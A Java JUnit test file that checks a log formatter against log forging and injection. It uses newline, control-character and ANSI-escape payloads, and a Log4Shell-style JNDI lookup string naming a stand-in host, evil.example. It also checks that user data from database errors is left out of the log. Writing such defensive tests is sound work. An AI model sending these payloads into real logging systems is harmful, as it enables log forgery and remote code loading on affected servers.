package org.folkmoot.start;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.sql.SQLException;
import java.time.Instant;
import java.util.Locale;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** W-16 of the security catalog: nobody can forge a line of the log. */
class OneLineFormatterTest {

  private final OneLineFormatter formatter = new OneLineFormatter();

  @Test
  void aLineHasTimeLevelLoggerAndMessage() {
    LogRecord event = event("import {0,number,#}: done", 1204L);

    assertThat(formatter.format(event))
        .isEqualTo("2026-11-24T08:05:09.120Z warning org.folkmoot.budgets: import 1204: done\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\n",
        "\r",
        "\r\n",
        "\u2028",
        "\u2029",
        "\u0085",
        "\u000b",
        "\f",
        "\u0000",
        "\u0008",
        "\u001b[2K\u001b[1A",
        "\u009b2K",
        "\u007f"
      })
  void whatCouldStartOrEraseALineIsEscaped(String attack) {
    String forged = "Ann" + attack + "2026-11-24T08:00:00Z info org.folkmoot: all is well";
    LogRecord event = event("unknown name {0}", forged);
    event.setThrown(new IllegalStateException(forged, new IOException(forged)));

    String line = formatter.format(event);

    assertThat(line).endsWith("\n");
    assertThat(line.substring(0, line.length() - 1))
        .doesNotContainPattern("[\\p{Cntrl}\\x80-\\x9f\\u2028\\u2029]")
        .contains(String.format(Locale.ROOT, "Ann\\u%04x", (int) attack.charAt(0)))
        .contains("all is well");
  }

  /** Finding J: what somebody typed is nobody's business in the log. */
  @Test
  void whatADatabaseQuotesIsLeftOut() {
    SQLException database =
        new SQLException(
            "Unique index violation: \"ACCOUNT(EMAIL) VALUES ('ann@example.org')\"; SQL statement:"
                + "\ninsert into account (email) values (?) [23505-232]",
            "23505",
            23505);
    LogRecord event = event("page failed");
    event.setThrown(
        new IllegalStateException("Internal Exception: " + database.getMessage(), database));

    assertThat(formatter.format(event))
        .doesNotContain("ann@example.org")
        .contains("Internal Exception: [state 23505, code 23505] SQL statement:")
        .contains("insert into account (email) values (?)");
  }

  @Test
  void aVeryLongMessageStaysOneLine() {
    String line = formatter.format(event("{0}", "a\n".repeat(1 << 19)));

    assertThat(line.indexOf('\n')).isEqualTo(line.length() - 1);
  }

  @Test
  void nothingIsLookedUp() {
    assertThat(formatter.format(event("{0}", "${jndi:ldap://evil.example/a} ${java.home}")))
        .contains("${jndi:ldap://evil.example/a} ${java.home}");
  }

  @Test
  void eachCauseIsNamedWithThePlaceWhereItArose() {
    LogRecord event = event("page failed");
    event.setThrown(new IllegalStateException("outer", new IOException()));

    assertThat(formatter.format(event))
        .contains(" <- java.lang.IllegalStateException: outer at org.folkmoot.start.")
        .contains(" <- java.io.IOException:  at org.folkmoot.start.");
  }

  private static LogRecord event(String message, Object... values) {
    LogRecord event = new LogRecord(Level.WARNING, message);
    event.setLoggerName("org.folkmoot.budgets");
    event.setInstant(Instant.parse("2026-11-24T08:05:09.120456Z"));
    event.setParameters(values);
    return event;
  }
}
